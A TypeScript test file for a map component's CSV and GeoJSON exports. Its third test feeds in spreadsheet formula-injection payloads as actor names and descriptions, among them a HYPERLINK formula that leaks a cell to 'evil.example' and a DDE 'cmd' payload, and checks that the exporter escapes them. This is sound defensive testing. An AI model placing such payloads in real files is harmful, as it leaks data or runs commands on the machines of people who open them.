// The export panel: the visible actors as CSV (core's columns, read back by core's own parser) and
// GeoJSON, and the report summary as CSV. The export code is a chunk fetched on the first export.
import { expect, fixture, html, waitUntil } from '@open-wc/testing';
import { actorFromRow, parseActors, parseCsvText } from '@terreau/core';
import '../../../packages/elements/src/ess-map/ess-map.js';
import type { EssMap } from '../../../packages/elements/src/ess-map/ess-map.js';
import { actorsFixture, downloadsOf, listNames, settle, shadow } from './helpers.js';

/** Clicks the export button named `label` and returns the file it offers (name and text). */
async function exported(el: EssMap, label: string): Promise<{ name: string; text: string }> {
  const button = Array.from(shadow(el).querySelectorAll<HTMLButtonElement>('[part="exports"] button')).find((b) => b.textContent!.trim() === label);
  expect(button, `an export button "${label}"`).to.not.equal(undefined);
  const files: { name: string; blob: Blob }[] = [];
  const create = URL.createObjectURL;
  const click = HTMLAnchorElement.prototype.click;
  let lastBlob: Blob | null = null;
  URL.createObjectURL = (b: Blob | MediaSource) => {
    lastBlob = b as Blob;
    return create.call(URL, b);
  };
  // Keep the file instead of letting the browser save it.
  HTMLAnchorElement.prototype.click = function (this: HTMLAnchorElement) {
    if (this.download && lastBlob) files.push({ name: this.download, blob: lastBlob });
  };
  try {
    button!.click();
    await waitUntil(() => files.length > 0, `"${label}" offers a file`, { timeout: 5000 });
  } finally {
    URL.createObjectURL = create;
    HTMLAnchorElement.prototype.click = click;
  }
  return { name: files[0]!.name, text: (await files[0]!.blob.text()).replace(/^\ufeff/, '') };
}

describe('<ess-map> exports', () => {
  it('exports the actors for a spreadsheet in French by default: headers and labels, not codes (#13)', async () => {
    const el = await fixture<EssMap>(html`<ess-map .actors=${actorsFixture()}></ess-map>`);
    await settle(el);
    const csv = await exported(el, 'Acteurs affichés (CSV)');
    expect(csv.name).to.equal('acteurs.csv');
    const table = parseCsvText(csv.text);
    expect(table.header.slice(0, 3)).to.deep.equal(['Identifiant', 'Nom', 'Type']);
    expect(table.header).to.include.members(['Besoins du territoire', 'Zonages', 'Précision de la position']);
    const velo = table.rows.find((r) => r['Nom'] === 'Atelier vélo')!;
    expect(velo['Type']).to.equal('Association');
    expect(velo['Activités']).to.equal('Atelier vélo');
    expect(velo['Zonages']).to.equal('Quartier prioritaire (QPV)');
    const regie = table.rows.find((r) => r['Nom'] === 'Régie Nord')!;
    expect(regie['Type']).to.equal('Régie de quartier');
    expect(regie['Précision de la position']).to.equal('commune');
    expect(csv.text).to.not.match(/;(scic|regie-de-quartier|bike-workshop);/);
  });


  it('exports the visible actors as CSV that core reads back, as GeoJSON, and the summary', async () => {
    const el = await fixture<EssMap>(html`<ess-map needs="employment-access,sustainable-mobility" .actors=${actorsFixture()}></ess-map>`);
    await settle(el);
    const visible = listNames(el);
    expect(visible.length).to.be.within(1, 3);

    const csv = await exported(el, 'Acteurs affichés (CSV, codes à réimporter)');
    expect(csv.name).to.equal('acteurs-codes.csv');
    const table = parseCsvText(csv.text);
    const back = parseActors(table.rows.map((row, index) => actorFromRow(row, { index })));
    expect(back.issues, 'the exported file is valid input').to.deep.equal([]);
    expect(back.actors.map((a) => a.name)).to.have.members(visible);

    const geo = await exported(el, 'Acteurs affichés (GeoJSON)');
    expect(geo.name).to.equal('acteurs.geojson');
    const fc = JSON.parse(geo.text) as { type: string; features: { properties: { name: string } }[] };
    expect(fc.type).to.equal('FeatureCollection');
    // Actors without a position are not features; every feature is a visible actor.
    for (const f of fc.features) expect(visible).to.include(f.properties.name);

    const open = Array.from(shadow(el).querySelectorAll<HTMLButtonElement>('[part="exports"] button')).find((b) => b.textContent!.trim() === 'Synthèse pour un rapport')!;
    open.click();
    await el.updateComplete;
    const summary = await exported(el, 'Synthèse (CSV)');
    expect(summary.name).to.equal('synthese-acteurs.csv');
    const lines = summary.text.trim().split(/\r\n/);
    expect(lines.at(-1)).to.equal(`Total;;${visible.length}`);
  });

  it('writes no cell a spreadsheet would run as a formula, and the codes file reads back to the same names (#17)', async () => {
    const hostile = ['=HYPERLINK("http://evil.example/?"&A1;"Voir")', '@SUM(1+1)', '+33 4 75 00 00 00', '-2+3', "'=deja"];
    const actors = hostile.map((name, i) => ({ id: `h${i}`, name, type: 'association', description: `=cmd|' /C calc'!A${i}`, address: { city: 'Die' }, location: { lat: 44.75, lon: 5.37, precision: 'exact' }, provenance: { source: '@source' } }));
    actors.push({ id: 'bad', name: 'Rejeté', type: '=1+1', description: '', address: { city: 'Die' }, location: { lat: 44.75, lon: 5.37, precision: 'exact' }, provenance: { source: 'x' } });
    const el = await fixture<EssMap>(html`<ess-map .actors=${actors}></ess-map>`);
    await settle(el);
    // a cell as the spreadsheet sees it: the ;-separated field without its CSV quotes
    const cells = (text: string) =>
      text
        .split(/\r\n/)
        .flatMap((line) => line.match(/("([^"]|"")*"|[^;]*)(;|$)/g) ?? [])
        .map((c) => c.replace(/;$/, ''))
        .map((c) => (c.startsWith('"') ? c.slice(1, -1).replace(/""/g, '"') : c));
    const live = (text: string) => cells(text).filter((c) => /^[=+\-@\t\r]/.test(c) && !/^[+-]?[\d.,]+$/.test(c));
    for (const label of ['Acteurs affichés (CSV)', 'Acteurs affichés (CSV, codes à réimporter)']) {
      const file = await exported(el, label);
      expect(live(file.text), label).to.deep.equal([]);
      expect(file.text, label).to.include("'=HYPERLINK");
    }
    const codes = parseCsvText((await exported(el, 'Acteurs affichés (CSV, codes à réimporter)')).text);
    const back = parseActors(codes.rows.map((row, index) => actorFromRow(row, { index })));
    expect(back.actors.map((a) => a.name)).to.have.members(hostile);
    expect(back.actors.map((a) => a.description)).to.include("=cmd|' /C calc'!A0");
    const problems = Array.from(shadow(el).querySelectorAll<HTMLButtonElement>('button')).find((b) => /problèmes \(CSV\)/.test(b.textContent!));
    expect(problems, 'the rejected-records download').to.not.equal(undefined);
    const click = HTMLAnchorElement.prototype.click;
    HTMLAnchorElement.prototype.click = () => undefined;
    let files: Blob[];
    try {
      files = await downloadsOf(() => problems!.click(), 'the problems file is offered');
    } finally {
      HTMLAnchorElement.prototype.click = click;
    }
    const issues = (await files[0]!.text()).replace(/^\ufeff/, '');
    expect(issues).to.include("'=1+1");
    expect(live(issues)).to.deep.equal([]);
  });
});
